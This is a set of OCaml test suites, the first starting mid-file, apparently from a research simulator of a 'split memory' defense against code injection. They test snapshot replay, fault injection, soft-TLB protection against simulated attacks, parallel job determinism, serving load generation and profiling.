  let s = scenario "benign" in
  let os = s.start ~obs () in
  ignore (Kernel.Os.run ~fuel:1500 os);
  let snap = Snap.Snapshot.checkpoint os in
  Snap.Snapshot.restore os snap;
  let file = Filename.temp_file "snap-test-obs" ".snap" in
  let bytes = Snap.Snapshot.save ~obs ~file snap in
  Sys.remove file;
  Sys.remove (file ^ ".manifest.json");
  let counters = Obs.Metrics.counters (Obs.metrics obs) in
  let counter name = List.assoc_opt name counters in
  Alcotest.(check (option int)) "snap.checkpoints" (Some 1) (counter "snap.checkpoints");
  Alcotest.(check (option int)) "snap.restores" (Some 1) (counter "snap.restores");
  Alcotest.(check (option int)) "snap.bytes_written" (Some bytes)
    (counter "snap.bytes_written");
  Alcotest.(check bool) "sparse skip counted" true
    (match counter "snap.frames_sparse_skipped" with Some n -> n > 0 | None -> false);
  let histo_names =
    List.map (fun (h : Obs.Metrics.histogram) -> h.h_name)
      (Obs.Metrics.histograms (Obs.metrics obs))
  in
  List.iter
    (fun n ->
      Alcotest.(check bool) (n ^ " registered") true (List.mem n histo_names))
    [ "snap.checkpoint_us"; "snap.restore_us" ]

(* --- Injector state (lib/inject) ------------------------------------------ *)

(* An interrupted campaign run resumes to the same verdict: checkpoint a
   machine mid-plan (the plan and the engine's volatile state — PRNG
   cursor, budget spent, pending faults — ride in snapshot metadata),
   restore into a fresh machine, rearm, finish. Event log, cost counters
   and the engine's full exported state must match the uninterrupted
   reference run bit-for-bit. *)
let test_inject_rearm () =
  let s = scenario "benign" in
  let plan =
    Inject.Plan.make ~scenario:"benign" ~seed:7 ~at_cycle:500 ~every:400 ~budget:6 ()
  in
  (* the reference: interrupted at the same point, then simply continued —
     the replay-gate comparison (an uninterrupted run would place its
     scheduler boundaries, and hence injections, at different cycles) *)
  let os1 = s.start () in
  let eng1 = Inject.Engine.arm os1 plan in
  ignore (Kernel.Os.run ~fuel:900 os1);
  Alcotest.(check bool)
    "checkpoint lands mid-plan" true
    (Inject.Engine.injected_count eng1 > 0
    && Inject.Engine.injected_count eng1 < plan.budget);
  let snap = Inject.checkpoint os1 eng1 in
  let mid_count = Inject.Engine.injected_count eng1 in
  ignore (run_to_end os1);
  Alcotest.(check bool)
    "reference keeps injecting after the checkpoint" true
    (Inject.Engine.injected_count eng1 > mid_count);
  let os2 = s.start () in
  Snap.Snapshot.restore os2 (Snap.Snapshot.decode (Snap.Snapshot.encode snap));
  let eng2 = Inject.rearm os2 snap in
  Alcotest.(check int) "journal restored" mid_count (Inject.Engine.injected_count eng2);
  ignore (run_to_end os2);
  Alcotest.(check (list string))
    "event logs match" (snd (final_state os1)) (snd (final_state os2));
  Alcotest.(check bool) "cost counters match" true
    (fst (final_state os1) = fst (final_state os2));
  Alcotest.(check string)
    "engine state converges" (Inject.Engine.export eng1) (Inject.Engine.export eng2)

let test_inject_rearm_requires_meta () =
  let s = scenario "benign" in
  let os = s.start () in
  ignore (Kernel.Os.run ~fuel:900 os);
  let snap = Snap.Snapshot.checkpoint os in
  match Inject.rearm os snap with
  | exception Invalid_argument _ -> ()
  | _ -> Alcotest.fail "rearm accepted a snapshot without injector state"

let suite =
  [
    Alcotest.test_case "codec round trip" `Quick test_codec_roundtrip;
    Alcotest.test_case "codec rejects corrupt input" `Quick test_codec_corrupt;
    Alcotest.test_case "round trip: benign" `Quick (test_roundtrip "benign");
    Alcotest.test_case "round trip: attack-break" `Quick (test_roundtrip "attack-break");
    Alcotest.test_case "round trip: attack-forensics" `Quick
      (test_roundtrip "attack-forensics");
    Alcotest.test_case "round trip: attack-observe" `Quick
      (test_roundtrip "attack-observe");
    Alcotest.test_case "restore into fresh machine" `Quick test_restore_into_fresh_machine;
    Alcotest.test_case "canonical re-encode" `Quick test_canonical_reencode;
    Alcotest.test_case "determinism: benign" `Quick (test_run_to_run_determinism "benign");
    Alcotest.test_case "determinism: attack-observe" `Quick
      (test_run_to_run_determinism "attack-observe");
    Alcotest.test_case "sparse frame skipping" `Quick test_sparse_skip;
    Alcotest.test_case "incompatible restore rejected" `Quick test_incompatible_restore;
    Alcotest.test_case "auto-checkpoint ring" `Quick test_ring;
    Alcotest.test_case "forensic capture extracts payload" `Quick test_forensic_capture;
    Alcotest.test_case "forensic artifacts on disk" `Quick test_forensic_artifacts;
    Alcotest.test_case "save/load with manifest" `Quick test_save_load;
    Alcotest.test_case "obs metrics" `Quick test_obs_metrics;
    Alcotest.test_case "injector state round trip" `Quick test_inject_rearm;
    Alcotest.test_case "rearm rejects plain snapshots" `Quick
      test_inject_rearm_requires_meta;
  ]
