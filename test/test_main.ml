let () =
  Alcotest.run "split_memory"
    [
      ("units", Test_units.suite);
      ("isa", Test_isa.suite);
      ("hw", Test_hw.suite);
      ("kernel", Test_kernel.suite);
      ("split", Test_split.suite);
      ("soft-tlb", Test_soft_tlb.suite);
      ("dual-cr3", Test_dual_cr3.suite);
      ("recovery", Test_recovery.suite);
      ("limitations", Test_limitations.suite);
      ("smoke", Test_smoke.suite);
      ("attack", Test_attack.suite);
      ("realworld", Test_realworld.suite);
      ("bypass", Test_bypass.suite);
      ("workload", Test_workload.suite);
      ("fleet", Test_fleet.suite);
      ("properties", Test_props.suite);
      ("wake-equiv", Test_wake_equiv.suite);
      ("scale", Test_scale.suite);
      ("cache", Test_cache.suite);
      ("stress", Test_stress.suite);
      ("edges", Test_edges.suite);
      ("hw-pagetable", Test_hw_pagetable.suite);
      ("dynlib", Test_dynlib.suite);
      ("obs", Test_obs.suite);
      ("snap", Test_snap.suite);
      ("trap", Test_trap.suite);
      ("inject", Test_inject.suite);
      ("reuse", Test_reuse.suite);
      ("prof", Test_prof.suite);
      ("bbcache", Test_bbcache.suite);
      ("serve", Test_serve.suite);
    ]
