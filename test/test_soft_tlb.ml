(* The §4.7 port: split memory on a software-managed-TLB machine. The same
   protection guarantees must hold, with noticeably lower overhead. *)

let test_attacks_foiled () =
  List.iter
    (fun t ->
      let o = Attack.Wilander.run ~defense:Defense.split_soft_tlb t Attack.Wilander.Stack in
      Alcotest.(check bool)
        (Attack.Wilander.technique_name t ^ " foiled on soft-tlb")
        true (Attack.Runner.is_foiled o))
    Attack.Wilander.techniques;
  List.iter
    (fun id ->
      let o = Attack.Realworld.run ~defense:Defense.split_soft_tlb id in
      Alcotest.(check bool)
        ((Attack.Realworld.info id).package ^ " foiled on soft-tlb")
        true (Attack.Runner.is_foiled o))
    Attack.Realworld.all

let test_attacks_succeed_unprotected_soft () =
  let o =
    Attack.Wilander.run ~defense:Defense.unprotected_soft_tlb Attack.Wilander.Ret_addr
      Attack.Wilander.Heap
  in
  Alcotest.(check bool) "attack works on stock soft-tlb kernel" true
    (Attack.Runner.is_attack_success o)

let test_benign_runs () =
  List.iter
    (fun t ->
      let outcome, _ = Attack.Wilander.benign_run ~defense:Defense.split_soft_tlb t in
      Alcotest.(check bool)
        (Attack.Wilander.technique_name t ^ " benign ok")
        true
        (outcome = Attack.Runner.Completed 0))
    Attack.Wilander.techniques

let test_observe_mode_works () =
  let defense =
    Defense.split_with ~response:(Split_memory.Response.Observe { sebek = true })
      ~mechanism:Split_memory.Soft_tlb ()
  in
  let o, s = Attack.Realworld.run_wuftpd ~defense () in
  Alcotest.(check bool) "observed shell" true
    (match o with Attack.Runner.Shell_spawned { detected_first = true } -> true | _ -> false);
  Alcotest.(check bool) "sebek traced" true
    (Kernel.Event_log.find_first (Kernel.Os.log s.k) (function
       | Kernel.Event_log.Syscall_traced _ -> true
       | _ -> false)
    <> None)

let test_no_single_stepping () =
  let r = Workload.Figures.run_ctxsw ~defense:Defense.split_soft_tlb ~iters:30 () in
  Alcotest.(check int) "no single-step ITLB loads" 0 r.single_steps;
  Alcotest.(check int) "no x86 split faults" 0 r.split_faults

let test_lower_overhead_than_desync () =
  let desync, soft = Workload.Figures.soft_tlb_ablation ~iters:60 () in
  Alcotest.(check bool)
    (Fmt.str "soft (%.2f) beats desync (%.2f)" soft desync)
    true (soft > desync +. 0.2)

let test_workloads_run () =
  let r = Workload.Figures.run_gzip ~defense:Defense.split_soft_tlb ~size:8192 () in
  Alcotest.(check bool) "gzip completes" true (r.cycles > 0)

let suite =
  [
    Alcotest.test_case "attacks foiled on soft-tlb" `Quick test_attacks_foiled;
    Alcotest.test_case "stock soft-tlb kernel is vulnerable" `Quick
      test_attacks_succeed_unprotected_soft;
    Alcotest.test_case "benign programs unaffected" `Quick test_benign_runs;
    Alcotest.test_case "observe mode on soft-tlb" `Quick test_observe_mode_works;
    Alcotest.test_case "no single-stepping needed" `Quick test_no_single_stepping;
    Alcotest.test_case "lower overhead than tlb-desync" `Quick test_lower_overhead_than_desync;
    Alcotest.test_case "workloads run" `Quick test_workloads_run;
  ]
