(* The fleet executor: submission-order determinism across worker counts,
   per-job failure containment, and the spec-based harness entrypoints. *)

let result_eq (a : Workload.Harness.result) (b : Workload.Harness.result) =
  a = b

let specs_small () =
  [
    Workload.Figures.ctxsw_spec ~defense:Defense.unprotected ~iters:10;
    Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:10;
    Workload.Figures.apache_spec ~defense:Defense.split_standalone ~size:2048 ~requests:3;
    Workload.Figures.gzip_spec ~defense:Defense.unprotected ~size:8192;
    Workload.Harness.single ~defense:Defense.split_standalone
      (Workload.Guests.nbench ~iters:3 ());
    Workload.Harness.single ~defense:Defense.unprotected
      (Workload.Guests.syscall_bench ~iters:50 ());
  ]

(* The determinism contract: the same spec list produces identical results
   at -j 1 (inline, no domains) and -j 4 (parallel). *)
let test_jobs_invariant () =
  let r1 = Workload.Harness.run_fleet ~jobs:1 (specs_small ()) in
  let r4 = Workload.Harness.run_fleet ~jobs:4 (specs_small ()) in
  Alcotest.(check int) "same length" (List.length r1) (List.length r4);
  List.iteri
    (fun i (a, b) ->
      match (a, b) with
      | Ok (ra : Workload.Harness.result), Ok rb ->
        Alcotest.(check bool) (Fmt.str "job %d (%s) identical" i ra.label) true
          (result_eq ra rb)
      | _ -> Alcotest.fail (Fmt.str "job %d did not finish" i))
    (List.combine r1 r4)

(* A deliberately crashing spec (fuel too small) yields Error while its
   siblings complete normally. *)
let test_failure_containment () =
  let crashing =
    Workload.Harness.single ~label:"doomed" ~fuel:10 ~defense:Defense.unprotected
      (Workload.Guests.nbench ~iters:1000 ())
  in
  let specs =
    [
      Workload.Figures.ctxsw_spec ~defense:Defense.unprotected ~iters:10;
      crashing;
      Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:10;
    ]
  in
  let results = Workload.Harness.run_fleet ~jobs:3 specs in
  (match results with
  | [ Ok _; Error e; Ok _ ] ->
    Alcotest.(check int) "failed job index" 1 e.Fleet.index;
    Alcotest.(check string) "failed job label" "doomed" e.Fleet.label;
    Alcotest.(check bool) "reason mentions the failure" true
      (String.length e.Fleet.reason > 0)
  | _ -> Alcotest.fail "expected [Ok; Error; Ok]");
  (* run_fleet_exn surfaces the same failure as Did_not_finish *)
  match Workload.Harness.run_fleet_exn ~jobs:2 specs with
  | exception Workload.Harness.Did_not_finish _ -> ()
  | _ -> Alcotest.fail "expected Did_not_finish"

(* Fleet.map on plain closures: ordering, containment, stats. *)
let test_map_ordering_and_stats () =
  let items = List.init 17 Fun.id in
  let f x = if x = 11 then failwith "boom" else x * x in
  let results, stats =
    Fleet.map_stats ~jobs:4 ~label:string_of_int f items
  in
  List.iteri
    (fun i r ->
      match r with
      | Ok v -> Alcotest.(check int) (Fmt.str "item %d in order" i) (i * i) v
      | Error (e : Fleet.error) ->
        Alcotest.(check int) "failing index" 11 e.index;
        Alcotest.(check string) "failing label" "11" e.label)
    results;
  Alcotest.(check int) "jobs" 17 stats.Fleet.jobs;
  Alcotest.(check int) "failures" 1 stats.Fleet.failures;
  Alcotest.(check int) "workers" 4 stats.Fleet.workers;
  Alcotest.(check int) "one wall time per job" 17 (Array.length stats.Fleet.job_us)

let test_map_inline_when_one_worker () =
  let self = Domain.self () in
  let results = Fleet.map ~jobs:1 (fun _ -> Domain.self ()) [ 0; 1; 2 ] in
  List.iter
    (function
      | Ok d -> Alcotest.(check bool) "ran on calling domain" true (d = self)
      | Error _ -> Alcotest.fail "inline job failed")
    results

(* Per-job obs registries merge in submission order: the merged metrics
   from a parallel run equal those from a sequential run, fleet's own
   wall-clock metrics aside. *)
let deterministic_metrics obs =
  let reg = Obs.snapshot obs in
  let wallclock n =
    String.length n >= 6 && String.sub n 0 6 = "fleet." && n <> "fleet.jobs"
    && n <> "fleet.failures"
  in
  ( List.filter (fun (n, _) -> not (wallclock n)) (Obs.Metrics.counters reg),
    List.filter_map
      (fun (h : Obs.Metrics.histogram) ->
        if wallclock h.h_name then None else Some (h.h_name, h.n, h.sum))
      (Obs.Metrics.histograms reg) )

let test_metrics_merge_deterministic () =
  let run jobs =
    let obs = Obs.create () in
    ignore (Workload.Harness.run_fleet ~obs ~jobs (specs_small ()));
    deterministic_metrics obs
  in
  let c1, h1 = run 1 and c4, h4 = run 4 in
  Alcotest.(check (list (pair string int))) "counters identical" c1 c4;
  Alcotest.(check (list (triple string int int))) "histograms identical" h1 h4

let test_fleet_metrics_recorded () =
  let obs = Obs.create () in
  ignore (Fleet.map ~obs ~jobs:2 (fun x -> x) [ 1; 2; 3 ]);
  let reg = Obs.snapshot obs in
  let counter n = List.assoc_opt n (Obs.Metrics.counters reg) in
  Alcotest.(check (option int)) "fleet.jobs" (Some 3) (counter "fleet.jobs");
  Alcotest.(check (option int)) "fleet.failures" (Some 0) (counter "fleet.failures");
  let hist =
    List.exists
      (fun (h : Obs.Metrics.histogram) -> h.h_name = "fleet.job_us" && h.n = 3)
      (Obs.Metrics.histograms reg)
  in
  Alcotest.(check bool) "fleet.job_us histogram has 3 samples" true hist

(* Legacy wrappers delegate to the spec path: same results as before. *)
let test_legacy_wrappers_match_specs () =
  let image () = Workload.Guests.nbench ~iters:3 () in
  let a = Workload.Harness.run_single ~defense:Defense.split_standalone (image ()) in
  let b =
    Workload.Harness.run (Workload.Harness.single ~defense:Defense.split_standalone (image ()))
  in
  Alcotest.(check bool) "single = spec single" true (result_eq a b);
  let p1 =
    Workload.Harness.run_pair ~defense:Defense.split_standalone
      (Workload.Guests.ctxsw_ping ~iters:10 ())
      (Workload.Guests.ctxsw_pong ())
  in
  let p2 =
    Workload.Harness.run
      (Workload.Harness.pair ~defense:Defense.split_standalone
         (Workload.Guests.ctxsw_ping ~iters:10 ())
         (Workload.Guests.ctxsw_pong ()))
  in
  Alcotest.(check bool) "pair = spec pair" true (result_eq p1 p2)

let test_empty_and_degenerate () =
  Alcotest.(check int) "empty fleet" 0 (List.length (Fleet.map (fun x -> x) []));
  (match Fleet.map ~jobs:64 (fun x -> x + 1) [ 41 ] with
  | [ Ok 42 ] -> ()
  | _ -> Alcotest.fail "single job on oversized pool");
  Alcotest.check_raises "empty guest list"
    (Invalid_argument "Harness.spec: no guests") (fun () ->
      ignore (Workload.Harness.spec ~defense:Defense.unprotected []))

let suite =
  [
    Alcotest.test_case "same results at -j 1 and -j 4" `Quick test_jobs_invariant;
    Alcotest.test_case "crashing job contained, siblings finish" `Quick
      test_failure_containment;
    Alcotest.test_case "map: submission order + stats" `Quick test_map_ordering_and_stats;
    Alcotest.test_case "map: jobs=1 runs inline" `Quick test_map_inline_when_one_worker;
    Alcotest.test_case "metrics merge deterministic across -j" `Quick
      test_metrics_merge_deterministic;
    Alcotest.test_case "fleet.* metrics recorded" `Quick test_fleet_metrics_recorded;
    Alcotest.test_case "legacy wrappers = spec path" `Quick test_legacy_wrappers_match_specs;
    Alcotest.test_case "empty list, oversized pool, empty spec" `Quick
      test_empty_and_degenerate;
  ]
