(* lib/serve: loadgen determinism and Zipf shape (qcheck), knee-finder
   and percentile-estimator units, the zero-request guard, the sweep's
   -j invariance, and the end-to-end serving golden with a mid-serve
   replay gate (a Sleep-blocked client crosses the snapshot).

   Regenerate the golden (only for an intentional behaviour change) with:
     REGEN_GOLDEN=test/golden dune exec test/test_main.exe -- test serve *)

module L = Serve.Loadgen

let check = Alcotest.check

(* --- smoke: one serving machine completes its offered load ---------------- *)

let test_scenario_completes () =
  let c =
    Serve.config ~defense:Defense.split_standalone ~concurrency:2 ~requests:8
      ~model:(L.Closed { think = 40_000 }) ~resp_size:1024 ()
  in
  let o = Serve.run c in
  check Alcotest.int "all offered requests completed" o.Serve.offered o.Serve.completed;
  if o.Serve.throughput <= 0.0 then Alcotest.fail "throughput must be positive";
  match o.Serve.lat.p50 with
  | None -> Alcotest.fail "latency reservoir is empty"
  | Some p50 -> if p50 <= 0 then Alcotest.failf "non-positive p50 %d" p50

(* --- loadgen properties (qcheck) ------------------------------------------ *)

let gen_model =
  QCheck.Gen.(
    oneof
      [
        map (fun think -> L.Closed { think }) (int_range 1 100_000);
        map (fun period -> L.Open { period }) (int_range 1 100_000);
      ])

let print_model = function
  | L.Closed { think } -> Fmt.str "closed(think=%d)" think
  | L.Open { period } -> Fmt.str "open(period=%d)" period

let gen_sched_params =
  QCheck.Gen.(
    map
      (fun (seed, client, requests, ws_pages, model) ->
        (seed, client, requests, ws_pages, model))
      (tup5 (int_range 0 1000) (int_range 0 64) (int_range 1 64) (int_range 1 32)
         gen_model))

let arb_sched_params =
  QCheck.make
    ~print:(fun (seed, client, requests, ws_pages, model) ->
      Fmt.str "seed=%d client=%d requests=%d ws_pages=%d %s" seed client requests
        ws_pages (print_model model))
    gen_sched_params

(* The property the serving gate rests on: a schedule is a pure function
   of its parameters — two independent generations render to the same
   bytes, land every page inside the working set, and honour the model's
   pace discipline (open-loop releases are strictly increasing). *)
let prop_schedule_deterministic =
  QCheck.Test.make ~name:"loadgen schedule is a pure function of its seed" ~count:200
    arb_sched_params (fun (seed, client, requests, ws_pages, model) ->
      let mk () = L.schedule ~ws_pages ~model ~requests ~seed ~client () in
      let a = mk () and b = mk () in
      String.equal (L.to_string a) (L.to_string b)
      && Array.length a = requests
      && Array.for_all (fun (page, _) -> page >= 0 && page < ws_pages * 4096) a
      && Array.for_all (fun (page, _) -> page mod 4096 = 0) a
      &&
      match model with
      | L.Open _ ->
        let ok = ref true in
        Array.iteri
          (fun i (_, pace) -> if i > 0 then ok := !ok && pace > snd a.(i - 1))
          a;
        !ok
      | L.Closed { think } ->
        Array.for_all (fun (_, pace) -> pace >= think / 2 && pace < think * 2) a)

(* Zipf's defining shape, by construction of the integer weight table:
   the frequency of rank r is monotone non-increasing in r. *)
let prop_zipf_monotone =
  QCheck.Test.make ~name:"zipf rank frequencies are monotone non-increasing"
    ~count:200
    (QCheck.make
       ~print:(fun (n, theta10) -> Fmt.str "n=%d theta=%.1f" n (float_of_int theta10 /. 10.))
       QCheck.Gen.(tup2 (int_range 1 64) (int_range 0 30)))
    (fun (n, theta10) ->
      let theta = float_of_int theta10 /. 10. in
      let z = L.Zipf.make ~theta n in
      let weight r = z.L.Zipf.cum.(r) - if r = 0 then 0 else z.L.Zipf.cum.(r - 1) in
      let ok = ref (L.Zipf.ranks z = n) in
      for r = 1 to n - 1 do
        ok := !ok && weight r <= weight (r - 1)
      done;
      (* and sampling can only produce in-range ranks *)
      let rng = L.Prng.make 42 in
      for _ = 1 to 100 do
        let r = L.Zipf.sample z rng in
        ok := !ok && r >= 0 && r < n
      done;
      !ok)

(* --- knee finder on synthetic curves -------------------------------------- *)

let test_knee_synthetic () =
  (* strictly rising: only the last point reaches 97% of the peak *)
  check Alcotest.int "monotone rising" 8
    (Serve.Sweep.knee [ (1, 10.); (2, 20.); (4, 40.); (8, 80.) ]);
  (* plateau: the first point inside the band wins, not the peak itself *)
  check Alcotest.int "plateau" 2
    (Serve.Sweep.knee [ (1, 50.); (2, 98.); (4, 100.); (8, 100.) ]);
  (* noisy peak: a later dip must not drag the knee past the first
     in-band concurrency *)
  check Alcotest.int "noisy peak" 4
    (Serve.Sweep.knee [ (1, 10.); (2, 90.); (4, 100.); (8, 95.) ]);
  (* a single point is its own knee *)
  check Alcotest.int "single point" 7 (Serve.Sweep.knee [ (7, 42.) ]);
  (* threshold is honoured: at 0.5, 2 is already inside the band *)
  check Alcotest.int "custom threshold" 2
    (Serve.Sweep.knee ~threshold:0.5 [ (1, 10.); (2, 60.); (4, 100.) ]);
  match Serve.Sweep.knee [] with
  | exception Invalid_argument _ -> ()
  | k -> Alcotest.failf "empty curve produced knee %d" k

(* --- percentile estimator vs exact sorted quantiles ----------------------- *)

(* Within capacity the reservoir holds every sample, so the estimator
   must agree exactly with the nearest-rank quantile of the sorted data. *)
let exact_nearest_rank sorted p =
  let n = Array.length sorted in
  let rank = int_of_float (ceil (p /. 100.0 *. float_of_int n)) in
  sorted.(max 0 (min (n - 1) (rank - 1)))

let prop_percentile_exact =
  QCheck.Test.make ~name:"percentiles match exact sorted quantiles within capacity"
    ~count:300
    QCheck.(list_of_size (Gen.int_range 1 500) (int_range 0 1_000_000))
    (fun samples ->
      let lat = Serve.Latency.create () in
      List.iter (Serve.Latency.record lat) samples;
      let sorted = Array.of_list (List.sort compare samples) in
      List.for_all
        (fun p -> Serve.Latency.percentile lat p = Some (exact_nearest_rank sorted p))
        [ 50.0; 90.0; 95.0; 99.0; 99.9; 100.0 ])

(* --- zero-request guard ---------------------------------------------------- *)

let test_zero_request_guard () =
  let lat = Serve.Latency.create () in
  let s = Serve.Latency.summary lat in
  check Alcotest.int "no requests" 0 s.Serve.Latency.requests;
  List.iter
    (fun (name, v) ->
      if v <> None then Alcotest.failf "empty reservoir yielded a %s" name)
    [
      ("p50", s.p50); ("p95", s.p95); ("p99", s.p99); ("p999", s.p999);
      ("max", s.lat_max);
    ];
  if Serve.Latency.mean lat <> None then Alcotest.fail "empty reservoir yielded a mean";
  (* the report convention: absent percentiles render "-", never NaN *)
  check Alcotest.string "renders dash" "-" (Serve.Sweep.cycles_opt None);
  check Alcotest.string "present renders digits" "123"
    (Serve.Sweep.cycles_opt (Some 123))

(* --- sweep determinism: -j1 and -j4 render the same bytes ------------------ *)

let small_sweep ~jobs () =
  Serve.Sweep.run ~jobs
    ~defenses:[ Defense.unprotected; Defense.split_standalone ]
    ~concurrencies:[ 1; 2 ] ~reps:2 ~requests:4
    ~model:(L.Closed { think = 30_000 }) ~resp_size:1024 ()

let test_sweep_jobs_invariant () =
  let a = Serve.Sweep.render (small_sweep ~jobs:1 ()) in
  let b = Serve.Sweep.render (small_sweep ~jobs:4 ()) in
  check Alcotest.string "render identical at -j1 and -j4" a b;
  if a = "" then Alcotest.fail "sweep rendered nothing"

(* --- golden: the fixed split-memory knee table ----------------------------- *)

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let golden_sweep () =
  Serve.Sweep.run ~jobs:2
    ~defenses:[ Defense.split_standalone ]
    ~concurrencies:[ 1; 2; 4 ] ~reps:2 ~requests:6
    ~model:(L.Closed { think = 30_000 }) ~resp_size:1024 ()

let test_golden_knee () =
  let got = Serve.Sweep.render (golden_sweep ()) in
  match Sys.getenv_opt "REGEN_GOLDEN" with
  | Some dir ->
    let path = Filename.concat dir "serve-knee.golden" in
    let oc = open_out_bin path in
    output_string oc got;
    close_out oc;
    Fmt.epr "regenerated %s@." path
  | None ->
    let path = Filename.concat "golden" "serve-knee.golden" in
    if not (Sys.file_exists path) then
      Alcotest.failf "missing golden file %s (run with REGEN_GOLDEN)" path;
    check Alcotest.string "serving knee table" (read_file path) got

(* --- replay gate: snapshot/restore mid-serve is bit-exact ------------------ *)

(* The serving machine is the only workload whose guests block in
   [Proc.Sleep]: checkpoint while a client is mid-think and the sleep
   deadline must survive the codec round-trip, or the resumed run drifts.
   First prove a sleeper is actually live at the checkpoint fuel, then
   run the replay gate across that same point. *)
let serve_spec () =
  Serve.spec
    (Serve.config ~defense:Defense.split_standalone ~concurrency:2 ~requests:6
       ~model:(L.Closed { think = 40_000 }) ~resp_size:1024 ())

let fuel_to_checkpoint = 2_000

let test_replay_mid_serve () =
  let os = Workload.Harness.build (serve_spec ()) in
  ignore (Kernel.Os.run ~fuel:fuel_to_checkpoint os : Kernel.Os.stop_reason);
  let sleeping =
    List.exists
      (fun (p : Kernel.Proc.t) ->
        match p.state with Kernel.Proc.Blocked (Kernel.Proc.Sleep _) -> true | _ -> false)
      (Kernel.Os.procs os)
  in
  if not sleeping then
    Alcotest.fail "no client was sleeping at the checkpoint fuel; gate is vacuous";
  let report, snap =
    Snap.Replay.check ~fuel_to_checkpoint (Workload.Harness.build (serve_spec ()))
  in
  if not (Snap.Replay.ok report) then
    Alcotest.failf "mid-serve replay diverged: %a" Snap.Replay.pp report;
  if Snap.Snapshot.cycle snap <= 0 then Alcotest.fail "checkpoint was not mid-run"

let suite =
  [
    Alcotest.test_case "scenario completes offered load" `Quick test_scenario_completes;
    QCheck_alcotest.to_alcotest prop_schedule_deterministic;
    QCheck_alcotest.to_alcotest prop_zipf_monotone;
    Alcotest.test_case "knee finder on synthetic curves" `Quick test_knee_synthetic;
    QCheck_alcotest.to_alcotest prop_percentile_exact;
    Alcotest.test_case "zero requests render dashes, not NaN" `Quick
      test_zero_request_guard;
    Alcotest.test_case "sweep renders identically at -j1 and -j4" `Slow
      test_sweep_jobs_invariant;
    Alcotest.test_case "golden serving knee table" `Quick test_golden_knee;
    Alcotest.test_case "replay gate across a sleeping client" `Quick
      test_replay_mid_serve;
  ]
