(* The address-sampling profiler (lib/prof).

   The foundation mirrors lib/inject's null-effect property: sampling is
   an observer, so an attached profiler must leave the run bit-identical
   (event log and every cost counter) to an unprofiled one — property-
   tested across defenses and guests. On top of that: the sampler's
   snapshot state round-trips exactly (including future decimation
   decisions), a checkpoint/restore/rearm replay renders byte-identical
   reports, the fleet-fanned policy sweep is byte-identical at -j1 and
   -j4, the LRU TLB keeps recently-touched entries that FIFO evicts, and
   zero-access hit rates render as "-" rather than NaN. *)

let run_to_end os = Kernel.Os.run ~fuel:2_000_000 os

let final_state os =
  let c = Kernel.Os.cost os in
  ( (c.cycles, c.insns, c.traps, c.split_faults, c.single_steps, c.syscalls, c.ctx_switches),
    List.map
      (Fmt.str "%a" Kernel.Event_log.pp_event)
      (Kernel.Event_log.to_list (Kernel.Os.log os)) )

(* --- The observer property ------------------------------------------------ *)

let gen_spec =
  QCheck.Gen.(
    let* defense = oneofl [ Defense.unprotected; Defense.nx; Defense.split_standalone ] in
    let* guest =
      oneof
        [
          map (fun iters -> Workload.Guests.nbench ~iters ()) (int_range 1 4);
          map (fun size -> Workload.Guests.gzip ~size ()) (int_range 512 2048);
          map (fun iters -> Workload.Guests.syscall_bench ~iters ()) (int_range 5 40);
        ]
    in
    let* rate = oneofl [ 1; 7; 64 ] in
    return (defense, guest, rate))

let print_spec (defense, guest, rate) =
  Fmt.str "%s/%s/rate=%d" (Defense.name defense) guest.Kernel.Image.name rate

let prop_profiler_invisible =
  QCheck.Test.make ~name:"attached profiler is bit-invisible" ~count:30
    (QCheck.make ~print:print_spec gen_spec)
    (fun (defense, guest, rate) ->
      let spec = Workload.Harness.single ~defense guest in
      let base = Workload.Harness.build spec in
      ignore (run_to_end base : Kernel.Os.stop_reason);
      let os = Workload.Harness.build spec in
      let prof = Prof.attach ~rate os in
      ignore (run_to_end os : Kernel.Os.stop_reason);
      (* the sampler must actually be live, not trivially disabled *)
      Prof.Sampler.seen (Prof.sampler prof) > 0
      && final_state base = final_state os)

(* --- Sampler state round-trip --------------------------------------------- *)

(* Fill past capacity so wrap/dropped state is exercised, then check the
   clone replays both the ring contents and the future decimation
   decisions exactly. *)
let test_sampler_roundtrip () =
  let s = Prof.Sampler.create ~capacity:8 ~rate:3 () in
  for i = 0 to 99 do
    Prof.Sampler.set_pid s (1 + (i mod 3));
    if Prof.Sampler.tick s then
      Prof.Sampler.record s ~cycle:(i * 10) ~vpn:(0x100 + i)
        ~access:(if i mod 2 = 0 then Hw.Mmu.Read else Hw.Mmu.Fetch)
        ~tlb_hit:(i mod 5 <> 0) ~split:(i mod 7 = 0)
  done;
  let s' = Prof.Sampler.import (Prof.Sampler.export s) in
  Alcotest.(check int) "rate" (Prof.Sampler.rate s) (Prof.Sampler.rate s');
  Alcotest.(check int) "length" (Prof.Sampler.length s) (Prof.Sampler.length s');
  Alcotest.(check int) "dropped" (Prof.Sampler.dropped s) (Prof.Sampler.dropped s');
  Alcotest.(check int) "seen" (Prof.Sampler.seen s) (Prof.Sampler.seen s');
  Alcotest.(check int) "taken" (Prof.Sampler.taken s) (Prof.Sampler.taken s');
  Alcotest.(check int) "pid" (Prof.Sampler.pid s) (Prof.Sampler.pid s');
  Alcotest.(check bool) "samples" true (Prof.Sampler.samples s = Prof.Sampler.samples s');
  for _ = 1 to 10 do
    Alcotest.(check bool) "tick parity" (Prof.Sampler.tick s) (Prof.Sampler.tick s')
  done;
  Alcotest.check_raises "corrupt"
    (Prof.Sampler.Corrupt_state "Sampler.import: truncated header") (fun () ->
      ignore (Prof.Sampler.import "" : Prof.Sampler.t))

(* --- Snapshot replay ------------------------------------------------------- *)

(* Reference run: checkpoint mid-flight (sampler state rides in snapshot
   metadata), finish. Replay: fresh machine, restore, rearm, finish. The
   two sample streams — and everything rendered from them — must match
   byte-for-byte. *)
let profile_report prof =
  let samples = Prof.samples prof in
  Prof.Analysis.summary_line samples (Prof.sampler prof)
  ^ Prof.Analysis.render_heatmap samples
  ^ Prof.Analysis.render_working_set samples
  ^ Prof.Analysis.render_persistence samples

let test_replay_identical () =
  let spec =
    Workload.Figures.ctxsw_spec ~defense:Defense.split_standalone ~iters:40
  in
  let os = Workload.Harness.build spec in
  let prof = Prof.attach ~rate:16 os in
  ignore (Kernel.Os.run ~fuel:30_000 os : Kernel.Os.stop_reason);
  let snap = Prof.checkpoint prof in
  ignore (run_to_end os : Kernel.Os.stop_reason);
  let reference = profile_report prof in
